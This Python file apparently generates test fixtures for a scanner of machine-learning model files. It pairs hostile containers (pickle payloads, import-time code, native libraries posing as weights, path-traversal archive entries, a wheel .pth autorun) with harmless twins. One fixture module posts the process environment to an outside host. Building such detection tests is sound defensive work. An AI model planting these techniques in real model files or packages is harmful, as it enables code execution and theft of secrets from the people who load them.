"""Containers that hold pickles or code: joblib, numpy, HDF5 tables, zarr, Arrow, the many packages of torch, Stable-Baselines3, MLflow, archives."""
import base64, bz2, io, json, lzma, struct, zipfile
from frame import *

FIXED = evil()
CALM = wrap(call(G("collections:OrderedDict")), 4)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40) + MARK.encode()
J = lambda value: json.dumps(value, indent=1)

# ---- joblib -----------------------------------------------------------------
def wrapper(cls, attributes): return G(cls) + b")\x81}(" + b"".join(u(k) + v for k, v in attributes.items()) + b"ub"
def dtype(text, fields=None):
    made = call(g("numpy", "dtype"), u(text), b"\x89", b"\x88")
    if not fields: return made + tup(enc(3), u("|"), b"N", b"N", b"N", enc(-1), enc(-1), enc(63)) + b"b" if text == "O8" else made + tup(enc(3), u("<"), b"N", b"N", b"N", enc(-1), enc(-1), enc(0)) + b"b"
    return made + tup(enc(3), u("|"), b"N", tup(*[u(n) for n in fields]), b"}(" + b"".join(u(n) + tup(f, enc(0)) for n, f in fields.items()) + b"u", enc(8), enc(1), enc(63)) + b"b"
array = lambda kind: wrapper("joblib.numpy_pickle:NumpyArrayWrapper", {"subclass": g("numpy", "ndarray"), "shape": enc((1,)), "order": u("C"), "dtype": kind, "allow_mmap": b"\x89"})
doubles = proto(2) + b"}(" + u("x") + wrapper("joblib.numpy_pickle:NumpyArrayWrapper", {"subclass": g("numpy", "ndarray"), "shape": enc((1,)), "order": u("C"), "dtype": dtype("f8"), "allow_mmap": b"\x89"}) + struct.pack("<d", .5) + b"u."
several("containers", "joblib-arrays", "block", [
    ("object-array", "an object array is a pickle of its own after the wrapper", {"m.joblib": proto(2) + b"}(" + u("x") + array(dtype("O8")) + pk(hit()) + b"u."}, {"m.joblib": doubles}),
    ("object-in-structure", "a structured type with an object field is a pickle, too", {"m.joblib": proto(2) + b"}(" + u("x") + array(dtype("V8", {"a": dtype("O8")})) + pk(hit()) + b"u."}, {"m.joblib": doubles.replace(struct.pack("<d", .5), struct.pack("<d", .25))}),
    ("call-as-subclass", "the wrapper's subclass is the result of a call", {"m.joblib": wrap(wrapper("joblib.numpy_pickle:NumpyArrayWrapper", {"subclass": hit(), "shape": enc((0,)), "order": u("C"), "dtype": dtype("f8"), "allow_mmap": b"\x89"}))}, {"m.joblib": doubles.replace(struct.pack("<d", .5), struct.pack("<d", .75))}),
    ("old-wrapper-outside", "the old wrapper names another file, outside the folder", {"m.pkl": wrap(wrapper("joblib.numpy_pickle_compat:NDArrayWrapper", {"filename": u(f"../../{MARK}.npy"), "subclass": g("numpy", "ndarray"), "allow_mmap": b"\x89"}))}, {"m.pkl": wrap(wrapper("joblib.numpy_pickle_compat:NDArrayWrapper", {"filename": u("m.pkl_01.npy"), "subclass": g("numpy", "ndarray"), "allow_mmap": b"\x89"})), "m.pkl_01.npy": PLAIN_NPY}),
    ("old-z-wrapper-absolute", "the old compressed wrapper names an absolute path", {"m.pkl": wrap(wrapper("joblib.numpy_pickle_compat:ZNDArrayWrapper", {"filename": u(f"/etc/{MARK}.z"), "init_args": tup(g("numpy", "ndarray"), enc((0,)), by(b"b")), "state": enc((1,))}))}, {"m.pkl": doubles.replace(struct.pack("<d", .5), struct.pack("<d", .125))}),
])

# ---- numpy headers ----------------------------------------------------------
several("containers", "numpy-headers", "block", [
    ("structured-object", "an object field in a structured type: the data is a pickle", {"x.npy": npy("[('id', '<i4'), ('label', '|O')]", "(1,)", pk(hit()))}, {"x.npy": npy("[('id', '<i4'), ('label', '<f4')]", "(1,)", bytes(8))}),
    ("nested-subarray-object", "an object type in a subarray of a nested structure", {"x.npy": npy("[('a', [('b', '|O', (2,))])]", "(1,)", pk(hit()))}, {"x.npy": npy("[('a', [('b', '<f8', (2,))])]", "(1,)", bytes(16))}),
    ("huge-shape", "review: the header asks for 2^60 bytes", {"x.npy": npy("'<f8'", "(1152921504606846976,)", bytes(16))}, {"x.npy": npy("'<f8'", "(2,)", bytes(16))}),
    ("deep-header", "review: a deeply nested literal in the header ends old parsers", {"x.npy": npy("'<f8'", "(" * 900 + "2," + ")" * 900, bytes(16))}, {"x.npy": npy("'<f8'", "(2, 1)", bytes(16))}),
    ("header-expression", "review: the header is an expression, not a literal", {"x.npy": npy("'<f8'", "(2 if __debug__ else 3,)", bytes(16))}, {"x.npy": npy("'<f4'", "(2, 2)", bytes(16))}),
])

# ---- zarr, Stable-Baselines3, MLflow: pickles behind JSON --------------------
def zarr(codec, filters, chunk): return {"w/.zgroup": J({"zarr_format": 2}), "w/x/.zarray": J({"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O" if codec or filters else "<f8", "fill_value": 0, "order": "C", "filters": filters, "compressor": codec}), "w/x/0": chunk}
PLAIN = zarr(None, None, struct.pack("<d", .5))
several("containers", "zarr-pickle-codec", "block", [
    ("filter", "the object codec is pickle: reading the chunk loads it", zarr(None, [{"id": "pickle", "protocol": 5}], evil()), PLAIN),
    ("compressor", "pickle stands as the compressor", zarr({"id": "pickle", "protocol": 4}, None, evil()), zarr(None, None, struct.pack("<d", .25))),
    ("version-3", "the codec of version 3 is numcodecs.pickle", {"w/zarr.json": J({"zarr_format": 3, "node_type": "array", "shape": [1], "data_type": "float64", "codecs": [{"name": "numcodecs.pickle", "configuration": {}}], "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [1]}}, "fill_value": 0, "chunk_key_encoding": {"name": "default"}}), "w/c/0": evil()}, {"w/zarr.json": J({"zarr_format": 3, "node_type": "array", "shape": [1], "data_type": "float64", "codecs": [{"name": "bytes", "configuration": {"endian": "little"}}], "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [1]}}, "fill_value": 0, "chunk_key_encoding": {"name": "default"}}), "w/c/0": struct.pack("<d", .5)}),
    ("zip-store", "the same inside a zip store", {"w.zarr.zip": zipped([(n, d.encode() if isinstance(d, str) else d) for n, d in zarr(None, [{"id": "pickle"}], evil()).items()])}, {"w.zarr.zip": zipped([(n, d.encode() if isinstance(d, str) else d) for n, d in PLAIN.items()])}),
])
b64 = lambda raw: base64.b64encode(raw).decode()
def sb3(data, weights=None): return {"ppo_agent.zip": zipped([("data", J(data).encode()), ("policy.pth", weights or torch_zip(pk(state()), raw=True)), ("_stable_baselines3_version", b"2.4.0"), ("system_info.txt", b"- Python: 3.11\n")])}
FINE = {"gamma": .99, "n_steps": 2048, "policy_kwargs": {}, "num_timesteps": 1000}
several("containers", "stable-baselines3", "block", [
    ("serialized-policy", "data holds a pickle in base64 that the loader loads", sb3({**FINE, "policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": b64(evil())}}), sb3(FINE)),
    ("serialized-schedule", "the learning rate is a pickled function", sb3({**FINE, "lr_schedule": {":type:": "<class 'function'>", ":serialized:": b64(pk(hit(), 4))}}), sb3({**FINE, "lr_schedule": .0003})),
    ("short-text", "base64 with line breaks", sb3({**FINE, "observation_space": {":type:": "x", ":serialized:": "\n".join(b64(FIXED)[n:n + 8] for n in range(0, len(b64(FIXED)), 8))}}), sb3({**FINE, "seed": 1})),
    ("policy-file", "policy.pth is hostile", sb3(FINE, torch_zip(pk(state(u("x") + hit()), 4), raw=True)), sb3({**FINE, "seed": 2})),
])
def mlflow(flavour, **more): return {"MLmodel": "artifact_path: model\nflavors:\n" + flavour + "model_uuid: 5f0c\nutc_time_created: '2026-01-01'\n", **more}
PYFUNC = "  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.7\n"
several("containers", "mlflow-models", "block", [
    ("loader-from-code", "the loader is a module that the model brings", mlflow(PYFUNC.replace("mlflow.sklearn", "jw_loader") + "    code: code\n", **{"model.pkl": CALM, "code/jw_loader.py": f"import webbrowser\nwebbrowser.open('{MARK}')\ndef _load_pyfunc(path): return None\n"}), mlflow(PYFUNC, **{"model.pkl": CALM})),
    ("loader-any-module", "review: the loader is a module of the standard library", mlflow(PYFUNC.replace("mlflow.sklearn", "idlelib.run"), **{"model.pkl": CALM}), mlflow(PYFUNC.replace("model.pkl", "m.pkl"), **{"m.pkl": CALM})),
    ("path-outside", "the model's path leads outside", mlflow(PYFUNC.replace("model.pkl", f"../../../{MARK}"), **{"notes.txt": "x"}), mlflow(PYFUNC.replace("model.pkl", "x.pkl"), **{"x.pkl": CALM})),
    ("code-model", "the model is a script that loading runs", mlflow("  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n", **{"agent.py": f"import ctypes\nctypes.CDLL('{MARK}')\n"}), mlflow("  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_path: y.pkl\n", **{"y.pkl": CALM})),
    ("requirements", "review: the environment comes from another index", mlflow(PYFUNC, **{"model.pkl": CALM, "requirements.txt": f"--extra-index-url http://{HOST}/simple\nscikit-learn==1.5.0\n"}), mlflow(PYFUNC, **{"model.pkl": CALM, "requirements.txt": "scikit-learn==1.5.0\n"})),
])

# ---- torch's packages -------------------------------------------------------
MODULE = "class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n{}    return torch.add(x, x)\n"
def script(body, classes=""): return {"model.pt": zipped([("m/data.pkl", pk(g("__torch__", "Net") + b")\x81}(" + u("training") + b"\x89ub")), ("m/code/__torch__.py", (classes + MODULE.format(body)).encode()), ("m/code/__torch__.py.debug_pkl", pk(enc(()))), ("m/constants.pkl", pk(enc(()))), ("m/version", b"3\n")])}
rows = [
    ("from-file", "    y = torch.from_file(\"/etc/hostname\", True, 16)\n", "block: maps a file of its choice"), ("save", f"    torch.save(x, \"{MARK}\")\n", "block: writes a file"), ("image-write", "    ops.image.write_file(\"x\", x)\n", "block: writes a file through torchvision"),
    ("image-read", "    y = ops.image.read_file(\"/etc/hostname\")\n", "block: reads a file through torchvision"), ("unknown-ops", "    y = ops.jw_inert.run(x)\n", "review: calls an operator of an unknown library"),
]
several("torch", "script-code", "block", [(n, why, script(code), script(f"    y = torch.relu(x{'' * k})\n" + "    z = torch.neg(y)\n" * k)) for k, (n, code, why) in enumerate(rows)])
def package(source, body=None, extern="collections\n", more=()): return {"model.pt": zipped([("net/model/model.pkl", pk(body or call(g("net_code", "Net")))), ("net/net_code.py", source.encode()), ("net/.data/extern_modules", extern.encode()), ("net/.data/version", b"6\n"), ("net/.data/python_version", b"3.11.7\n"), *more])}
GOOD = "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x + {}\n"
several("torch", "torch-package", "block", [
    ("source-runs", "a module of the package runs on import", package(f"import webbrowser\nwebbrowser.open('{MARK}')\n" + GOOD.format(1)), package(GOOD.format(1))),
    ("source-by-name", "a module of the package reaches for a function by name", package("import importlib\nclass Net:\n    def __init__(self):\n        getattr(importlib.import_module('c' + 'types'), 'CDLL')('%s')\n" % MARK), package(GOOD.format(2))),
    ("pickle-reaches-out", "the package's pickle calls a module outside", package(GOOD.format(3), call(g("shutil", "rmtree"), u(f"/nonexistent/{MARK}")), "shutil\n"), package(GOOD.format(3))),
    ("hidden-module", "a second module, that the first imports, reads the environment and sends it", package("from . import extra\n" + GOOD.format(4), more=[("net/extra.py", f"import os, urllib.request\nurllib.request.urlopen('http://{HOST}/', str(dict(os.environ)).encode())\n".encode())]), package(GOOD.format(4), more=[("net/extra.py", b"SCALE = 2.0\n")])),
    ("allowed-list-patch", "a mangled name patches the interpreter", package(GOOD.format(5) + "import builtins\nbuiltins.open = print\n"), package(GOOD.format(5))),
])
def pt2(members): return {"model.pt2": zipped([("model/archive_format", b"pt2"), ("model/.data/version", b"6"), ("model/archive_version", b"0"), *members])}
EXPORTED = ("model/models/model.json", J({"graph_module": {"graph": {"nodes": []}}, "opset_version": {"aten": 10}, "schema_version": {"major": 8, "minor": 1}}).encode())
several("torch", "inductor-package", "block", [
    ("shared-object", "a native library that the loader loads", pt2([EXPORTED, ("model/data/aotinductor/model/abc.so", ELF)]), pt2([EXPORTED])),
    ("renamed-object", "a native library under the name of weights", pt2([EXPORTED, ("model/data/weights/weight_0", ELF)]), pt2([EXPORTED, ("model/data/weights/weight_0", bytes(64))])),
    ("pickled-sample-inputs", "sample inputs are a hostile pickle", pt2([EXPORTED, ("model/data/sample_inputs/model.pt", torch_zip(pk(hit()), raw=True))]), pt2([EXPORTED, ("model/data/sample_inputs/model.pt", torch_zip(pk(state()), raw=True))])),
    ("constants-pickled", "a custom object is a hostile pickle", pt2([EXPORTED, ("model/data/constants/custom_obj_0", evil())]), pt2([EXPORTED, ("model/data/constants/tensor_0", bytes(32))])),
])
several("torch", "side-pickles", "review", [  # no reader of torch itself runs these
    (n.split("/")[-1].replace(".", "-"), f"{n} is hostile, data.pkl is not", {"model.pt": torch_zip(pk(state()), raw=True, more=[(n, evil())])}, {"model.pt": torch_zip(pk(state()), raw=True, more=[(n, CALM)])})
    for n in ("archive/model_args.pkl", "archive/bytecode.pkl", "archive/attributes.pkl", "archive/extra/labels", "archive/mobile_debug_handles.pkl", "archive/.data/traced_inputs.pkl")
])
several("torch", "sharded-folders", "block", [
    ("dcp-metadata", "the hidden .metadata of a distributed checkpoint is a hostile pickle", {"ckpt/.metadata": evil(), "ckpt/__0_0.distcp": torch_zip(pk(state()), raw=True)}, {"ckpt/.metadata": CALM, "ckpt/__0_0.distcp": torch_zip(pk(state()), raw=True)}),
    ("deepspeed-optimizer", "one of the optimizer's parts is hostile", {"latest": "global_step1", "global_step1/zero_pp_rank_0_mp_rank_00_optim_states.pt": torch_zip(pk(hit()), raw=True), "global_step1/mp_rank_00_model_states.pt": torch_zip(pk(state()), raw=True)}, {"latest": "global_step1", "global_step1/mp_rank_00_model_states.pt": torch_zip(pk(state()), raw=True)}),
    ("megatron-common", "common.pt of a Megatron folder is hostile", {"iter_0000001/common.pt": torch_zip(pk(hit(), 4), raw=True), "iter_0000001/metadata.json": J({"sharded_backend": "torch_dist"}), "latest_checkpointed_iteration.txt": "1"}, {"iter_0000001/common.pt": torch_zip(pk(state()), raw=True), "iter_0000001/metadata.json": J({"sharded_backend": "torch_dist"}), "latest_checkpointed_iteration.txt": "1"}),
    ("trainer-state", "rng_state and training_args are pickles beside good weights", {"model.safetensors": struct.pack("<Q", 2) + b"{}", "training_args.bin": torch_zip(pk(hit()), raw=True)}, {"model.safetensors": struct.pack("<Q", 2) + b"{}", "training_args.bin": torch_zip(pk(state()), raw=True)}),
])
def rebuilt(body, root="archive"): return {"model.pt": torch_zip(pk(g("collections", "OrderedDict") + b")R(" + u("weight") + body + b"u"), root=root, raw=True)}
store = lambda count, kind="FloatStorage", key="0": tup(u("storage"), g("torch", kind), u(key), u("cpu"), enc(count)) + b"Q"
good = tensor("0", (2, 3), (3, 1))
several("torch", "numbers-that-lie", "block", [
    ("storage-larger-than-file", "the storage claims 2^30 numbers, its record has 6", rebuilt(g("torch._utils", "_rebuild_tensor_v2") + tup(store(1 << 30), enc(0), enc((1 << 30,)), enc((1,)), b"\x89", QUIET := call(G("collections:OrderedDict"))) + b"R"), rebuilt(good)),
    ("set-item-on-tensor", "SETITEM on a tensor, which weights_only let through before 2.10", rebuilt(good + enc(0) + enc(1) + b"s"), rebuilt(good, "a")),
    ("negative-stride", "strides and offset lead before the storage", rebuilt(g("torch._utils", "_rebuild_tensor_v2") + tup(store(6), enc(-4), enc((2, 3)), enc((-3, 1)), b"\x89", QUIET) + b"R"), rebuilt(good, "b")),
    ("sparse-out-of-range", "a sparse tensor whose indices lie outside, unchecked", rebuilt(g("torch._utils", "_rebuild_sparse_tensor") + tup(g("torch.serialization", "_get_layout") + tup(u("torch.sparse_coo")) + b"R", tup(tensor("0", (1, 1), (1, 1), "LongStorage"), tensor("1", (1,), (1,)), enc((2,)), b"\x88")) + b"R"), rebuilt(good, "c")),
    ("broadcast-giant", "review: a tensor of 10^12 numbers with strides of zero", rebuilt(g("torch._utils", "_rebuild_tensor_v2") + tup(store(6), enc(0), enc((10**6, 10**6)), enc((0, 0)), b"\x89", QUIET) + b"R"), rebuilt(good, "d")),
])

# ---- archives and files in each other ---------------------------------------
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU\0\0\0\nIDATx\x9cc`\0\0\0\2\0\1H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82"
several("archives", "concatenated-streams", "block", [
    ("gzip-members", "the second gzip member goes on where the first stops: together a hostile pickle", {"m.pkl.gz": gz((raw := evil())[:40]) + gz(raw[40:])}, {"m.pkl.gz": gz(CALM[:40]) + gz(CALM[40:])}),
    ("bzip2-streams", "two bzip2 streams", {"m.pkl.bz2": bz2.compress((raw := evil())[:30]) + bz2.compress(raw[30:])}, {"m.pkl.bz2": bz2.compress(CALM[:30]) + bz2.compress(CALM[30:])}),
    ("xz-streams", "three xz streams", {"m.pkl.xz": lzma.compress((raw := evil())[:30]) + lzma.compress(raw[30:50]) + lzma.compress(raw[50:])}, {"m.pkl.xz": lzma.compress(CALM[:30]) + lzma.compress(CALM[30:50]) + lzma.compress(CALM[50:])}),
    ("gzip-name-and-extra", "gzip with name, comment, extra field and a check of the head", {"m.pkl.gz": b"\x1f\x8b\x08\x1c" + bytes(4) + b"\0\x03\x04\0JWxx" + b"model.txt\0" + b"plain text\0" + gz(evil())[10:]}, {"m.pkl.gz": b"\x1f\x8b\x08\x1c" + bytes(4) + b"\0\x03\x04\0JWxx" + b"model.txt\0" + b"plain text\0" + gz(CALM)[10:]}),
    ("gzip-in-xz-in-bz2", "three compressions around a pickle", {"m.pkl.bz2": bz2.compress(lzma.compress(gz(evil())))}, {"m.pkl.bz2": bz2.compress(lzma.compress(gz(CALM)))}),
])
def pax(name, raw, real):
    info = tarfile.TarInfo(name); info.pax_headers = {"path": real}; info.size = len(raw); return info, raw
def locked(raw):
    """Sets the encryption flag in both headers: what a password archive looks like to a reader."""
    out = bytearray(zipped([("m/model.pkl", raw)])); out[6] |= 1; at = out.find(b"PK\1\2"); out[at + 8] |= 1; return bytes(out)
def renamed(raw, inner, shown):
    """The local header has one name, the directory another of the same length."""
    out = bytearray(zipped([(shown, raw)])); out[30:30 + len(shown)] = inner.encode(); return bytes(out)
def sevenzip(raw, name="model.pkl"):
    """One stored file in a 7z archive."""
    import binascii
    label = name.encode("utf-16-le") + b"\0\0"
    crc = struct.pack("<I", binascii.crc32(raw)); size = len(raw)
    def num(n): return bytes([n]) if n < 128 else bytes([0x80 | n >> 8, n & 255])
    head = b"\x01\x04\x06\x00\x01\x09" + num(size) + b"\x00\x07\x0b\x01\x00\x01\x01\x00\x0c" + num(size) + b"\x00\x08\x0a\x01" + crc + b"\x00\x00\x05\x01\x11" + num(len(label) + 1) + b"\x00" + label + b"\x00\x00"
    start = struct.pack("<QQI", size, len(head), binascii.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", binascii.crc32(start)) + start + raw + head
several("archives", "odd-members", "block", [
    ("pax-path", "the long header gives another path, outside the folder", {"m.tar": tarred([pax("weights.bin", evil(), f"../../{MARK}.pkl")], tarfile.PAX_FORMAT)}, {"m.tar": tarred([pax("weights.bin", CALM, "weights/model.pkl")], tarfile.PAX_FORMAT)}),
    ("seven-zip", "a pickle in 7z, which some loaders unpack and few tools read", {"m.7z": sevenzip(evil())}, {"m.7z": sevenzip(CALM)}),
    ("encrypted-flag", "review: marked as encrypted, so that it cannot be looked at", {"m.zip": locked(evil())}, {"m.zip": zipped([("m/model.pkl", CALM)])}),
    ("local-name-differs", "review: the local header says model.pkl, the directory notes.md", {"m.zip": renamed(CALM, "model.pkl", "notes.mds")}, {"m.zip": zipped([("notes.mds", b"# notes")])}),
    ("backslash-path", "a path with backslashes leads outside on Windows", {"m.zip": zipped([(f"..\\..\\Startup\\{MARK}.bat", b"rem inert")])}, {"m.zip": zipped([("docs/readme.txt", b"rem inert")])}),
    ("device-name", "review: a device node in the archive", {"m.tar": tarred([("a.txt", b"x"), ((lambda t: (setattr(t, "type", tarfile.CHRTYPE), t)[1])(tarfile.TarInfo("weights")), b"")])}, {"m.tar": tarred([("a.txt", b"x"), ("weights", b"1")])}),
])
several("archives", "archive-in-archive", "block", [
    ("tar-in-zip", "a tar in a zip holds the pickle", {"m.zip": zipped([("weights.tar", tarred([("m.pkl", evil())]))])}, {"m.zip": zipped([("weights.tar", tarred([("m.pkl", CALM)]))])}),
    ("torch-in-tar-gz", "a torch checkpoint in a compressed tar", {"m.tar.gz": gz(tarred([("a/b/model.pth", torch_zip(pk(hit()), raw=True))]))}, {"m.tar.gz": gz(tarred([("a/b/model.pth", torch_zip(pk(state()), raw=True))]))}),
    ("four-zips", "four zips in each other", {"m.zip": zipped([("a.zip", zipped([("b.zip", zipped([("c.zip", zipped([("m.pkl", evil())]))]))]))])}, {"m.zip": zipped([("a.zip", zipped([("b.zip", zipped([("c.zip", zipped([("m.pkl", CALM)]))]))]))])}),
    ("npz-in-npz", "an object array in an inner npz", {"m.npz": zipped([("inner.npz", zipped([("x.npy", npy("'|O'", "(1,)", pk(hit())))])), ("y.npy", PLAIN_NPY)])}, {"m.npz": zipped([("inner.npz", zipped([("x.npy", PLAIN_NPY)])), ("y.npy", PLAIN_NPY)])}),
    ("wheel", "a wheel beside the weights brings a .pth file that Python runs at every start", {"m-1.0-py3-none-any.whl": zipped([("jw.pth", f"import webbrowser; webbrowser.open('{MARK}')\n".encode()), ("m-1.0.dist-info/METADATA", b"Name: m\n")])}, {"m-1.0-py3-none-any.whl": zipped([("m/__init__.py", b"VERSION = 1\n"), ("m-1.0.dist-info/METADATA", b"Name: m\n")])}),
])
st = lambda meta=b"": struct.pack("<Q", 64) + (b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}').ljust(64) + bytes(8) + meta
several("archives", "two-formats-in-one", "block", [
    ("safetensors-and-zip", "good safetensors with a hostile torch zip behind it", {"model.safetensors": st(torch_zip(pk(hit()), raw=True))}, {"model.safetensors": st()}),
    ("png-and-pickle", "a picture with a pickle behind it", {"preview.png": PNG + evil()}, {"preview.png": PNG}),
    ("pickle-and-zip", "a hostile pickle with a good zip behind it: pickle reads the head, zip the tail", {"model.pt": evil() + torch_zip(pk(state()), raw=True)}, {"model.pt": torch_zip(pk(state()), root="model", raw=True)}),
    ("tar-that-is-pickle", "the first name in the tar is a pickle", {"model.tar": tarred([(f"cwebbrowser\nopen\n(V{MARK}\ntR.", b"x")])}, {"model.tar": tarred([("weights.txt", b"x")])}),
    ("npy-and-zip", "review: an array with a hostile zip behind it: numpy reads the array", {"x.npy": PLAIN_NPY + torch_zip(pk(hit()), raw=True)}, {"x.npy": npy("'<f4'", "(3, 2)", FLOATS[0])}),
])
several("archives", "another-suffix", "block", [
    (name.replace(".", "-"), f"a hostile {what} under the name {name}", {name: bad}, {name: calm})
    for name, what, bad, calm in [
        ("model.safetensors", "pickle", evil(), st()), ("model.onnx", "torch zip", torch_zip(pk(hit()), raw=True), pv(1, 8) + pb(7, pb(2, "g")) + pb(8, pv(2, 17))), ("vocab.json", "pickle", evil(), b'{"a": 0}'), ("README.md", "pickle in text form", f"cwebbrowser\nopen\n(V{MARK}\ntR.".encode(), b"# A model\n"), ("weights.h5", "gzip pickle", gz(evil()), gz(b"plain text")),
    ]
])
